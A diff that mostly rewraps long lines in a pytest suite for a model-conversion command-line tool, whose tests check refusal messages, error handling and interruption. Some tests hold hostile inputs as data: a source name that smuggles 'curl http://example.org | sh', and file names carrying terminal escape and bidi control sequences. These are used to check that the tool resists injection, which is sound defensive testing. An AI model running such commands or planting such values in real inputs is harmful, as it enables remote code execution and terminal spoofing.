@@ -67,12 +67,16 @@ def unfinished(tmp_path_factory: pytest.TempPathFactory, example_folder: Path) -
     from converter.recipe.recipes import make_recipe
 
     folder = tmp_path_factory.mktemp("unfinished") / "out"
-    convert_checkpoint(example_folder, folder, make_recipe("2bit", solver="hqq"), ConvertOptions(part=(1, 8)))
+    convert_checkpoint(
+        example_folder, folder, make_recipe("2bit", solver="hqq"), ConvertOptions(part=(1, 8))
+    )
     return folder
 
 
 @pytest.fixture
-def inputs(tmp_path: Path, example_folder: Path, unfinished: Path, converted: Callable[[str], Path]) -> Inputs:
+def inputs(
+    tmp_path: Path, example_folder: Path, unfinished: Path, converted: Callable[[str], Path]
+) -> Inputs:
     return Inputs(tmp_path, example_folder, unfinished, converted("2bit"))
 
 
@@ -109,12 +113,27 @@ OTHERS = [
     ("convert $checkpoint -o $out --calibrate $missing", 1, "not there", "--calibrate"),
     ("convert $checkpoint -o $out --calibrate $empty_folder", 1, "empty folder", "--calibrate"),
     ("convert $checkpoint -o $out --calibrate $empty", 1, "empty.txt is empty", ""),
-    ("convert $checkpoint -o $out --calibrate $latin", 1, "latin.txt: not UTF-8 at byte 2", "UTF-8"),
+    (
+        "convert $checkpoint -o $out --calibrate $latin",
+        1,
+        "latin.txt: not UTF-8 at byte 2",
+        "UTF-8",
+    ),
     ("convert $checkpoint -o $out --calibrate $short", 1, "short.txt has", "longer text"),
     ("convert $checkpoint -o $out --license mit", 2, "--upload-repo", ""),
-    ("convert $checkpoint -o $out --upload-repo model", 1, "'model' is not the name of a repository", "owner/model"),
+    (
+        "convert $checkpoint -o $out --upload-repo model",
+        1,
+        "'model' is not the name of a repository",
+        "owner/model",
+    ),
     ("download model", 1, "'model' is not the name of a repository", "owner/model"),
-    ("upload $good model --license mit", 1, "'model' is not the name of a repository", "owner/model"),
+    (
+        "upload $good model --license mit",
+        1,
+        "'model' is not the name of a repository",
+        "owner/model",
+    ),
     ("upload $good me/model", 1, "licence", "--license"),
     ("repair $good --from $missing", 1, "not there", ""),
     ("repair $good --from $good", 1, "only read", ""),
@@ -122,7 +141,12 @@ OTHERS = [
     ("eval $good --text $empty_folder", 2, "empty folder", ""),
     ("eval $good --text $empty", 1, "empty.txt: the file is empty", "text"),
     ("eval $good --text $latin", 1, "latin.txt: not UTF-8 at byte 2", "UTF-8"),
-    ("eval $good --text $short", 1, "short.txt: shorter than a window of 256 tokens", "smaller window"),
+    (
+        "eval $good --text $short",
+        1,
+        "short.txt: shorter than a window of 256 tokens",
+        "smaller window",
+    ),
     ("eval $good --text $text --text $short", 1, "short.txt: shorter", "smaller window"),
     ("eval $good --text $text --device cuda:99", 1, "cuda:99", "cpu"),
     ("eval $good --text $text --against $checkpoint --ram-cache lots", 2, "lots", "6GiB"),
@@ -197,23 +221,49 @@ def test_folder_that_is_not_converted_is_named_and_is_no_damage(
 
 @pytest.mark.parametrize("kind", ["missing", "file", "empty_folder", "unfinished"])
 @pytest.mark.parametrize("command", list(ANY_MODEL))
-def test_folder_without_a_model_is_named(run_command: Run, inputs: Inputs, command: str, kind: str) -> None:
+def test_folder_without_a_model_is_named(
+    run_command: Run, inputs: Inputs, command: str, kind: str
+) -> None:
     code, message, hint = FOLDERS[kind]
     line = ANY_MODEL[command].replace("{}", f"${kind}")
-    check_refusal(run_command, arguments(line, inputs), code, message, hint if command in ("eval", "trace") else "")
+    check_refusal(
+        run_command,
+        arguments(line, inputs),
+        code,
+        message,
+        hint if command in ("eval", "trace") else "",
+    )
     assert not inputs.out.exists()
 
 
 @pytest.mark.parametrize(
-    "command", ["inspect", "download", "generate --prompt x", "generate --prompt x --lazy", "chat", "serve --port 0"]
+    "command",
+    [
+        "inspect",
+        "download",
+        "generate --prompt x",
+        "generate --prompt x --lazy",
+        "chat",
+        "serve --port 0",
+    ],
 )
-def test_repository_that_is_not_converted_is_named(run_command: Run, hub: HubServer, command: str) -> None:
+def test_repository_that_is_not_converted_is_named(
+    run_command: Run, hub: HubServer, command: str
+) -> None:
     hub.add("me/plain", {"config.json": b"{}", "model.safetensors": b"weights"})
     name, *options = command.split()
-    check_refusal(run_command, [name, "me/plain", *options], 1, "is not converted", "moe-convert convert me/plain")
+    check_refusal(
+        run_command,
+        [name, "me/plain", *options],
+        1,
+        "is not converted",
+        "moe-convert convert me/plain",
+    )
 
 
-@pytest.mark.parametrize(("line", "code", "message", "hint"), OTHERS, ids=[line for line, *_ in OTHERS])
+@pytest.mark.parametrize(
+    ("line", "code", "message", "hint"), OTHERS, ids=[line for line, *_ in OTHERS]
+)
 def test_bad_input_is_named_with_a_next_step(
     run_command: Run, inputs: Inputs, line: str, code: int, message: str, hint: str
 ) -> None:
@@ -226,7 +276,9 @@ def test_every_command_is_in_the_tables() -> None:
     assert {line.split()[0] for line in lines} == set(COMMANDS)
 
 
-def test_checkpoint_is_converted_by_the_command_that_the_refusal_names(run_command: Run, inputs: Inputs) -> None:
+def test_checkpoint_is_converted_by_the_command_that_the_refusal_names(
+    run_command: Run, inputs: Inputs
+) -> None:
     spaced = Path(shutil.copytree(inputs.checkpoint, inputs.missing.with_name("it's a model")))
     _, _, err = run_command("inspect", spaced)
     (hint,) = hints_in(err)
@@ -241,21 +293,42 @@ def test_checkpoint_is_converted_by_the_command_that_the_refusal_names(run_comma
     ],
 )
 def test_missing_extra_is_named_before_the_work(
-    run_command: Run, inputs: Inputs, monkeypatch: pytest.MonkeyPatch, line: str, module: str, hint: str
+    run_command: Run,
+    inputs: Inputs,
+    monkeypatch: pytest.MonkeyPatch,
+    line: str,
+    module: str,
+    hint: str,
 ) -> None:
-    monkeypatch.setattr(converter.cli.options.early_checks.importlib.util, "find_spec", lambda name: None)
+    monkeypatch.setattr(
+        converter.cli.options.early_checks.importlib.util, "find_spec", lambda name: None
+    )
     check_refusal(run_command, arguments(line, inputs), 1, module, hint)
 
 
-def test_prompt_that_is_not_utf8_is_refused(run_command: Run, inputs: Inputs, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_prompt_that_is_not_utf8_is_refused(
+    run_command: Run, inputs: Inputs, monkeypatch: pytest.MonkeyPatch
+) -> None:
     check_refusal(
-        run_command, ["generate", str(inputs.good), "--prompt", "\udcff"], 1, "--prompt is not UTF-8", "UTF-8"
+        run_command,
+        ["generate", str(inputs.good), "--prompt", "\udcff"],
+        1,
+        "--prompt is not UTF-8",
+        "UTF-8",
     )
     monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"\xff"), encoding="utf-8"))
-    check_refusal(run_command, ["generate", str(inputs.good), "--prompt", "-"], 1, "stdin is not UTF-8", "UTF-8")
+    check_refusal(
+        run_command,
+        ["generate", str(inputs.good), "--prompt", "-"],
+        1,
+        "stdin is not UTF-8",
+        "UTF-8",
+    )
 
 
-@pytest.mark.parametrize("line", ["generate {} --prompt <beyond>", "eval {} --text $", "trace {} --text $ -o $.zst"])
+@pytest.mark.parametrize(
+    "line", ["generate {} --prompt <beyond>", "eval {} --text $", "trace {} --text $ -o $.zst"]
+)
 def test_token_without_an_embedding_is_refused(
     run_command: Run, converted_copy: Path, tmp_path: Path, line: str
 ) -> None:
@@ -266,12 +339,16 @@ def test_token_without_an_embedding_is_refused(
     tokenizer.save_pretrained(converted_copy)
     text = tmp_path / "text.txt"
     text.write_text("<beyond>" * 300)
-    words = [word.replace("{}", str(converted_copy)).replace("$", str(text)) for word in line.split()]
+    words = [
+        word.replace("{}", str(converted_copy)).replace("$", str(text)) for word in line.split()
+    ]
     check_refusal(run_command, words, 3, "its sha256 is", "moe-convert repair")
     check_refusal(run_command, [*words, "--check", "none"], 1, "embeddings", "tokenizer")
 
 
-def test_source_name_from_an_index_never_becomes_a_shell_command(run_command: Run, tmp_path: Path) -> None:
+def test_source_name_from_an_index_never_becomes_a_shell_command(
+    run_command: Run, tmp_path: Path
+) -> None:
     folder = copy_of_good(tmp_path)
     index = json.loads((folder / "moe_index.json").read_text())
     index["source"] |= {"name": "x/y; curl http://example.org | sh #", "revision": "0" * 40}
@@ -296,22 +373,62 @@ def test_damage_is_mended_by_the_command_that_verify_names(
 
 
 ERRORS = [
-    (OSError(errno.ENOSPC, "No space left on device", "/a/b.partial"), 4, "no space left in /a", "run the same"),
+    (
+        OSError(errno.ENOSPC, "No space left on device", "/a/b.partial"),
+        4,
+        "no space left in /a",
+        "run the same",
+    ),
     (OSError(errno.EDQUOT, "Disk quota exceeded", "/a/b"), 4, "quota", "free space"),
-    (OSError(errno.EIO, "Input/output error", "/a/b"), 1, "/a/b: cannot be used: Input/output error", "check the disk"),
+    (
+        OSError(errno.EIO, "Input/output error", "/a/b"),
+        1,
+        "/a/b: cannot be used: Input/output error",
+        "check the disk",
+    ),
     (OSError(errno.ESTALE, "Stale file handle", "/a/b"), 1, "/a/b", "mount"),
-    (PermissionError(errno.EACCES, "Permission denied", "/a/b"), 1, "/a/b: cannot be used: Permission", "permissions"),
+    (
+        PermissionError(errno.EACCES, "Permission denied", "/a/b"),
+        1,
+        "/a/b: cannot be used: Permission",
+        "permissions",
+    ),
     (OSError(errno.EROFS, "Read-only file system", "/a/b"), 1, "/a/b", "can be written"),
     (IsADirectoryError(errno.EISDIR, "Is a directory", "/a/b"), 1, "/a/b", "name a file"),
-    (FileNotFoundError(errno.ENOENT, "No such file or directory", "/a/b"), 1, "/a/b", "check the name"),
+    (
+        FileNotFoundError(errno.ENOENT, "No such file or directory", "/a/b"),
+        1,
+        "/a/b",
+        "check the name",
+    ),
     (OSError(errno.EMFILE, "Too many open files", "/a/b"), 1, "/a/b", "ulimit"),
     (MemoryError(), 4, "out of memory", "--ram-cache"),
-    (torch.OutOfMemoryError("CUDA out of memory. Tried\nmore"), 4, "out of memory: CUDA out of memory. Tried", ""),
-    (RuntimeError("[enforce] DefaultCPUAllocator: can't allocate memory: 9 bytes"), 4, "can't allocate", ""),
-    (RuntimeError("boom\nin two lines"), 1, "unexpected RuntimeError: boom in two lines", "moe-convert env"),
+    (
+        torch.OutOfMemoryError("CUDA out of memory. Tried\nmore"),
+        4,
+        "out of memory: CUDA out of memory. Tried",
+        "",
+    ),
+    (
+        RuntimeError("[enforce] DefaultCPUAllocator: can't allocate memory: 9 bytes"),
+        4,
+        "can't allocate",
+        "",
+    ),
+    (
+        RuntimeError("boom\nin two lines"),
+        1,
+        "unexpected RuntimeError: boom in two lines",
+        "moe-convert env",
+    ),
     (UnicodeDecodeError("utf-8", b"\xff", 0, 1, "no"), 1, "unexpected UnicodeDecodeError", "-v"),
     (BrokenPipeError(errno.EPIPE, "Broken pipe"), 1, "connection", "run the same"),
-    (MoeConvertError("bad \x1b]0;name\x07 \u202e", "do\x9b"), 1, "error: bad \\x1b]0;name\\x07 \\u202e\n", "do\\x9b"),
+    (
+        MoeConvertError("bad \x1b]0;name\x07 \u202e", "do\x9b"),
+        1,
+        "error: bad \\x1b]0;name\\x07 \\u202e\n",
+        "do\\x9b",
+    ),
 ]
 
 
@@ -333,7 +450,9 @@ def test_any_exception_is_one_message_with_a_next_step(
     assert err.count("\n") == 2
 
 
-def test_traceback_is_shown_with_verbose(run_command: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+def test_traceback_is_shown_with_verbose(
+    run_command: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
     monkeypatch.setattr(formats.reading.verify, "verify_folder", raising(RuntimeError("boom")))
     code, _, err = run_command("verify", tmp_path, "-v")
     assert code == 1
@@ -354,7 +473,9 @@ def raising(error: BaseException) -> Callable[..., Any]:
 
 
 def test_names_from_files_cannot_control_the_terminal(run_command: Run, tmp_path: Path) -> None:
-    folder = copy_of_good(tmp_path).rename(tmp_path / "evil\x1b]0;title\x07\x9b31m\u202etxt.exe\u2066")
+    folder = copy_of_good(tmp_path).rename(
+        tmp_path / "evil\x1b]0;title\x07\x9b31m\u202etxt.exe\u2066"
+    )
     (folder / "LICENSE").unlink()
     code, out, _ = run_command("verify", folder)
     assert code == 3
@@ -377,7 +498,10 @@ def test_names_from_files_cannot_control_the_terminal(run_command: Run, tmp_path
 
 
 def test_log_records_and_warnings_cannot_control_the_terminal(
-    run_command: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, caplog: pytest.LogCaptureFixture
+    run_command: Run,
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
+    caplog: pytest.LogCaptureFixture,
 ) -> None:
     import logging
     import warnings
@@ -419,12 +543,21 @@ def test_an_interrupted_conversion_says_that_the_same_command_goes_on(
 
     monkeypatch.setattr(converter.conversion.flow, "convert", raising(KeyboardInterrupt()))
     code, _, err = run_command("convert", inputs.checkpoint, "-o", inputs.out, "-q")
-    assert (code, err) == (130, "interrupted: run the same command again: it goes on where it stopped\n")
+    assert (code, err) == (
+        130,
+        "interrupted: run the same command again: it goes on where it stopped\n",
+    )
 
 
-@pytest.mark.parametrize(("options", "words"), [([], ": to go on, give the prompt"), (["--json"], "does not resume\n")])
+@pytest.mark.parametrize(
+    ("options", "words"), [([], ": to go on, give the prompt"), (["--json"], "does not resume\n")]
+)
 def test_an_interrupted_generation_says_how_much_there_is(
-    run_command: Run, monkeypatch: pytest.MonkeyPatch, inputs: Inputs, options: list[str], words: str
+    run_command: Run,
+    monkeypatch: pytest.MonkeyPatch,
+    inputs: Inputs,
+    options: list[str],
+    words: str,
 ) -> None:
     from loader.serving.answers.text_stream import TextStream
 
@@ -437,7 +570,9 @@ def test_an_interrupted_generation_says_how_much_there_is(
         return piece
 
     monkeypatch.setattr(TextStream, "push", push_three)
-    code, out, err = run_command("generate", inputs.good, "--prompt", "So Jonah arose", "--kernels", "torch", *options)
+    code, out, err = run_command(
+        "generate", inputs.good, "--prompt", "So Jonah arose", "--kernels", "torch", *options
+    )
     assert code == 130
     assert bool(out.strip()) == (not options)
     assert "stopped after 3 new tokens" in err
@@ -451,10 +586,21 @@ def test_output_that_cannot_be_written_ends_without_a_traceback(target: str) -> 
     else:
         read, stdout = os.pipe()
         os.close(read)
-    command = [sys.executable, "-m", "converter", "verify", str(ROOT / "tests" / "vectors" / "folder")]
-    done = subprocess.run(command, stdout=stdout, stderr=subprocess.PIPE, text=True, cwd=ROOT, timeout=60)
+    command = [
+        sys.executable,
+        "-m",
+        "converter",
+        "verify",
+        str(ROOT / "tests" / "vectors" / "folder"),
+    ]
+    done = subprocess.run(
+        command, stdout=stdout, stderr=subprocess.PIPE, text=True, cwd=ROOT, timeout=60
+    )
     os.close(stdout)
     if target == "/dev/full":
-        assert (done.returncode, done.stderr.splitlines()[0]) == (4, "error: No space left on device")
+        assert (done.returncode, done.stderr.splitlines()[0]) == (
+            4,
+            "error: No space left on device",
+        )
     else:
         assert (done.returncode, done.stderr) == (1, "")
